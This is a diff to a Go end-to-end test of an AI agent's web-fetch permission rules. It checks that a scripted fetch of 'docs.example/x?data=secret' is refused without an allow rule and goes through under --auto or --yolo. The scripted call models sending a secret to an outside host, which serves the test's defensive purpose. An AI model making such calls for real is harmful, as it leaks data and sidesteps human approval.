@@ -82,6 +82,9 @@ func TestE2EWebFetch(t *testing.T) {
 // TestE2EWebFetchHeadlessNeedsARule: with no person to ask, a fetch from a
 // host no rule names is refused in the ask posture (the model is told
 // why, and no request leaves); --auto and --yolo let the posture allow it.
+// The host is a public name reached through a proxy the environment names
+// (the test server plays it): a URL naming this machine would wait for a
+// person in every posture (TestE2ERedTeamWebFetchLocal).
 func TestE2EWebFetchHeadlessNeedsARule(t *testing.T) {
 	t.Parallel()
 	var (
@@ -105,9 +108,10 @@ func TestE2EWebFetchHeadlessNeedsARule(t *testing.T) {
 		fetch bool
 	}{{nil, false}, {[]string{"--auto"}, true}, {[]string{"--yolo"}, true}} {
 		e := newE2E(t,
-			scripted.Turn{ToolCalls: []scripted.Call{call("web_fetch", map[string]any{"url": page.URL + "/x?data=secret"})}},
+			scripted.Turn{ToolCalls: []scripted.Call{call("web_fetch", map[string]any{"url": "http://docs.example/x?data=secret"})}},
 			scripted.Turn{Text: "done"},
 		)
+		e.env = append(e.env, "HTTP_PROXY="+page.URL, "http_proxy="+page.URL, "NO_PROXY=", "no_proxy=")
 		before := count()
 		r := e.run("", append(append([]string{"run"}, tc.flags...), "read it")...)
 		if r.code != 0 {
@@ -122,7 +126,7 @@ func TestE2EWebFetchHeadlessNeedsARule(t *testing.T) {
 		if tc.fetch != (count() > before) || tc.fetch != strings.Contains(got, "fetched body") {
 			t.Errorf("%v: fetched = %v, want %v:\n%s", tc.flags, count() > before, tc.fetch, got)
 		}
-		if !tc.fetch && !strings.Contains(got, "no WebFetch(domain:127.0.0.1) rule allows fetching from 127.0.0.1") {
+		if !tc.fetch && !strings.Contains(got, "no WebFetch(domain:docs.example) rule allows fetching from docs.example") {
 			t.Errorf("%v: the refusal does not name the rule that would allow it:\n%s", tc.flags, got)
 		}
 	}
